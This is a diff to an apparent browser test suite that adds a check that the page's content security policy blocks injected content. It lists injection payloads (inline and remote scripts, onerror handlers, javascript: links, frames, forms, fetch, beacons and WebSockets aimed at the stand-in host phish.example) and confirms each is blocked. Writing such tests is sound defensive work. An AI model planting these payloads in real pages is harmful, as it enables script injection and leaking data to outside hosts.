@@ -1,12 +1,12 @@
 // Hostile titles, descriptions and image addresses neither run nor break the
 // page, and take a reader nowhere.
+import * as crypto from 'node:crypto';
 import * as path from 'node:path';
 
 import {artifacts, check, createBody, createMailbox, equal, openBrowser,
         request, run, serve, startRelay} from './harness.mjs';
 import {IMAGES, LETTERS, MARKUP, REFUSED_TEXTS} from './hostile.mjs';
 import {DESKTOP, NARROW, inkLeaves, picture, troubleAt} from './layout.mjs';
-import * as crypto from 'node:crypto';
 
 const relay = await startRelay();
 const ours = `${relay.url}/v1/picture/general.png`;
@@ -183,6 +183,67 @@ async function an_image_with_a_script_in_it_runs_nothing() {
     equal(phish.requests, [], 'what another host received');
 }
 
+const PATIENCE_MS = 10000;
+
+/** In the page: what an attacker would put there; each ends by itself. */
+const INTRUDERS = {
+    script: () => add('script', {textContent: 'tripwire("ran")'}),
+    'script from elsewhere': () => add('script', {
+        src: 'https://phish.example/a.js'}),
+    handler: () => add('img', {src: 'data:,'}).setAttribute(
+        'onerror', 'tripwire("ran")'),
+    'javascript link': () => add('a', {
+        href: 'javascript:tripwire("ran")'}).click(),
+    image: () => add('img', {src: 'https://phish.example/a.png'}),
+    'other picture of the relay': () => add('img', {
+        src: '/v1/picture/home.png'}),
+    style: () => add('style', {textContent: 'main{display:none}'}),
+    'style attribute': () => document.querySelector('main').setAttribute(
+        'style', 'display:none'),
+    'style from elsewhere': () => add('link', {
+        rel: 'stylesheet', href: 'https://phish.example/a.css'}),
+    font: () => new FontFace('f', 'url(https://phish.example/f)').load()
+        .catch(() => null),
+    frame: () => add('iframe', {src: 'https://phish.example/'}),
+    form: () => add('form', {action: 'https://phish.example/'}).submit(),
+    base: () => add('base', {href: 'https://phish.example/'}),
+    request: () => fetch('https://phish.example/').catch(() => null),
+    'request to the relay': () => fetch('/.well-known/tigress')
+        .catch(() => null),
+    beacon: () => navigator.sendBeacon('https://phish.example/'),
+    socket: () => new Promise((done) => {
+        new WebSocket('wss://phish.example/').onerror = done;
+    }),
+    worker: () => navigator.serviceWorker.register('/w.js').catch(() => null),
+    object: () => add('object', {data: 'https://phish.example/'}),
+    video: () => add('video', {src: 'https://phish.example/'}),
+};
+
+async function what_did_get_in_the_policy_would_stop() {
+    const share = await createMailbox(relay);
+    const visit = await browser.visit(share.url, {inside:
+        `globalThis.add = (name, values) => document.body.appendChild(
+             Object.assign(document.createElement(name), values));`});
+    for (const [name, intrude] of Object.entries(INTRUDERS)) {
+        visit.said.length = 0;
+        await visit.page.evaluate(() => {
+            globalThis.forbidden = new Promise((done) => addEventListener(
+                'securitypolicyviolation', done, {once: true}));
+        });
+        await visit.page.evaluate(intrude);
+        check(await visit.page.evaluate((ms) => Promise.race([
+            globalThis.forbidden.then(() => true),
+            new Promise((done) => setTimeout(done, ms, false))]), PATIENCE_MS),
+              `${name}: nothing forbids it`);
+        check(!visit.said.includes('trip: ran'), `${name}: it ran`);
+        check(await visit.page.locator('main').isVisible(), `${name}: hides`);
+        equal(visit.page.url(), share.url, `${name}: address`);
+        equal(visit.answers.length, 2, `${name}: answers`);
+    }
+    await visit.close();
+    equal(phish.requests, [], 'what another host received');
+}
+
 await run([
     hostile_texts_stay_text,
     letters_that_are_hard_to_set_stay_in_their_place,
@@ -190,4 +251,5 @@ await run([
     hostile_image_addresses_lead_to_that_image_or_to_none,
     an_image_that_redirects_is_not_followed_to_another_host,
     an_image_with_a_script_in_it_runs_nothing,
+    what_did_get_in_the_policy_would_stop,
 ]);
